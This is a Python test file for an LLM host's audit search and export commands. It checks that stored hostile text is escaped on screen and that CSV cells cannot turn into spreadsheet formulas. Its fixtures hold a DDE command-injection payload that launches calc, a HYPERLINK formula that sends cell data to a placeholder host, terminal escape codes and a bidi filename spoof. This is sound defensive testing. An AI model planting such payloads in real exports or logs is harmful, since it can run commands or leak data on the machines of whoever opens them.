"""`llmhost audit search|export` with hostile stored text: Rich markup, terminal escapes and
bidi overrides are shown, never interpreted; CSV cells cannot become spreadsheet formulas;
JSON keeps every value exactly; exports are owner-only."""

from __future__ import annotations

import csv
import io
import json
import stat

import pytest
from typer.testing import CliRunner

from llmhost.audit.store import AuditRecord, SqliteAuditStore
from llmhost.cli.audit import csv_cell, visible
from llmhost.cli.main import app

HOSTILE = [
    ("[bold red]root[/]", "[/]", "m"),
    ("\x1b[31mevil\x1b[0m\x07", "ok \u202egnp.exe", "m"),
    ("bob", '=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0"),
    ("-2+3", "@SUM(1)", "\tm"),
]


@pytest.fixture
def home(tmp_path):
    s = SqliteAuditStore(tmp_path / "audit.db")
    s.append(
        [
            AuditRecord(
                ts=1.7e9 + i,
                request_id=f"r{i}",
                client_ip="10.0.0.1",
                user_id=user,
                route="/v1/chat/completions",
                status=200,
                model=model,
                prompt=prompt,
            )
            for i, (user, prompt, model) in enumerate(HOSTILE)
        ]
    )
    s.close()
    return tmp_path


def cli(home, *args):
    r = CliRunner().invoke(app, ["audit", *args], env={"LLMHOST_HOME": str(home), "COLUMNS": "400"})
    assert r.exit_code == 0, (r.output, r.exception)
    return r.output


def test_search_shows_stored_text_as_it_is(home):
    out = cli(home, "search")
    assert "[bold red]root[/]" in out and "[/]" in out  # neither styled nor a MarkupError
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\x1b[31mevil\\x1b[0m\\x07" in out and "ok \\u202egnp.exe" in out
    assert "\\tm" in out


def test_visible_bounds_and_escapes():
    assert visible("a\nb\x00\x9b") == "a\\nb\\x00\\x9b"
    assert visible("x" * 100, limit=10) == "x" * 10 + "…"
    assert visible(None) == "" and visible("日本語") == "日本語"


def test_csv_cells_cannot_become_formulas(home):
    rows = list(csv.DictReader(io.StringIO(cli(home, "search", "--csv"))))
    assert rows[2]["prompt"] == '\'=HYPERLINK("http://x.example/?"&A1,"click")'
    assert rows[2]["model"] == "'+cmd|' /C calc'!A0"
    assert rows[3]["user_id"] == "'-2+3" and rows[3]["prompt"] == "'@SUM(1)"
    assert rows[3]["model"] == "'\tm"
    assert rows[0]["user_id"] == "[bold red]root[/]" and rows[0]["status"] == "200"
    assert [csv_cell(v) for v in (-1, "\rx", "a=b")] == [-1, "'\rx", "a=b"]


def test_json_stays_lossless_and_exports_are_private(home):
    lines = cli(home, "search", "--json").splitlines()
    got = [json.loads(line) for line in lines]
    assert [(g["user_id"], g["prompt"], g["model"]) for g in got] == HOSTILE
    assert all("\x1b" not in line for line in lines)  # json.dumps escapes control characters
    for fmt in ("json", "csv"):
        out = home / f"export.{fmt}"
        cli(home, "export", "--format", fmt, "--out", str(out))
        assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert "'=HYPERLINK" in (home / "export.csv").read_text()
